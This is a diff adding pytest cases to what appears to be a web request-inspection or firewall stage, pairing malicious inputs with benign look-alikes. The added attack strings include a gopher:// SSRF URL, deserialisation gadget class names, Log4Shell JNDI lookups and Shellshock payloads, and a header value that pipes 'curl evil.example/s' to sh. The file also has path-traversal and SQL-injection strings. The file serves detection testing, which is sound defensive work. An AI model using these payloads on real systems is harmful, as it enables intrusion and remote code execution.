@@ -100,6 +100,7 @@ def test_control_character_spaces_are_text_not_binary(query: str, flagged: bool)
         ("file=%c0%2e%c0%2e/%c0%2e%c0%2e/%c0%2e%c0%2e/boot.ini", True),
         ("file=%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fapp/settings.yml", True),
         ("file=0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd", True),  # letters and digits only: past the plain fast path
+        ("u=gopher://127.0.0.1:3306/_%a3%00%00%01%85%a6%ff%01%00%00%00%01%21%00%00%00", True),  # a MySQL packet's bytes
         ("blob=..%ff%fe%fd%fc%fb%fa%f9%f8%f7%f6%f5%f4%f3%f2", False),  # binary that starts with dots
         ("blob=%ff.%fe%fd%fc%fb%fa%f9%f8%f7%f6%f5%f4%f3%f2%f1%f0%ef", False),  # a dot inside binary
     ],
@@ -915,3 +916,65 @@ def test_combo_urls_and_colons_in_a_path_pass(url: str) -> None:
 def test_a_value_cut_short_by_a_nul_is_text() -> None:
     assert blocking(stage().findings(request(path="/s", query="f=../../../etc/passwd%00")))
     assert blocking(stage().findings(request(path="/s", query="u=admin%27%20or%201=1--%00")))
+
+
+POLYMORPHIC_TYPES = [
+    # a platform or gadget-library class named to a polymorphic deserialiser's type key
+    ({"@type": "java.lang.AutoCloseable", "x": {"@type": "com.mysql.jdbc.JDBC4Connection"}}, True),
+    ({"@type": "Lcom.sun.rowset.JdbcRowSetImpl;", "dataSourceName": "x"}, True),
+    ({"@type": "[org.example.Foo"}, True),
+    ({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0"}, True),
+    ({"__type": "System.Web.Security.RolePrincipal, System.Web"}, True),
+    # an application's own types, collections, schema.org and protobuf type URLs
+    ({"@class": "com.shop.model.Order", "id": 1}, False),
+    ({"$type": "MyApp.Models.Order, MyApp", "id": 1}, False),
+    ({"$type": "System.Collections.Generic.List`1[[MyApp.Foo, MyApp]], mscorlib"}, False),
+    ({"@type": "Product", "name": "x"}, False),
+    ({"@type": "type.googleapis.com/google.rpc.ErrorInfo"}, False),
+    ({"type": "org.apache.kafka.Event"}, False),
+]
+
+
+@pytest.mark.parametrize(("document", "flagged"), POLYMORPHIC_TYPES)
+def test_gadget_class_under_a_polymorphic_type_key(document: dict, flagged: bool) -> None:
+    body = json.dumps(document).encode()
+    found = stage().findings(request("POST", "/api/items", headers=[("content-type", "application/json")], body=body))
+    rules = {f.rule for f in found if f.score >= 0.5}
+    assert ("ssti.polymorphic-type" in rules) is flagged, found
+
+
+@pytest.mark.parametrize(
+    ("header", "value", "flagged"),
+    [
+        ("cache-control", "${jndi:ldap://evil.example/a}", True),
+        ("if-modified-since", "() { :; }; /bin/id", True),
+        ("accept-encoding", "gzip$(curl evil.example/s|sh)", True),
+        ("dnt", "${${lower:j}ndi:rmi://evil.example/a}", True),
+        # the headers' own grammar stays unread
+        ("cache-control", "max-age=0, no-cache", False),
+        ("if-none-match", 'W/"33a64df551425fcc55e4d42a148795d9f25f89d4"', False),
+        ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT", False),
+        ("accept-encoding", "gzip, deflate, br, zstd", False),
+    ],
+)
+def test_structural_header_holding_a_lookup_or_substitution_is_read(header: str, value: str, flagged: bool) -> None:
+    found = blocking(stage().findings(request(headers=[*BROWSER, (header, value)])))
+    assert (f"header.{header}" in found) is flagged, found
+
+
+@pytest.mark.parametrize(
+    ("credentials", "flagged"),
+    [
+        ("${jndi:ldap://evil.example/a}:x", True),
+        ("() { :; }; /bin/id:x", True),
+        # a password's symbols are its own business
+        ("admin:p;id|x`y`", False),
+        ("admin:Pa$$w0rd()", False),
+    ],
+)
+def test_basic_credentials_read_for_lookups_and_function_definitions(credentials: str, flagged: bool) -> None:
+    import base64
+
+    token = base64.b64encode(credentials.encode()).decode()
+    found = blocking(stage().findings(request(headers=[*BROWSER, ("authorization", "Basic " + token)])))
+    assert ("header.authorization" in found) is flagged, found
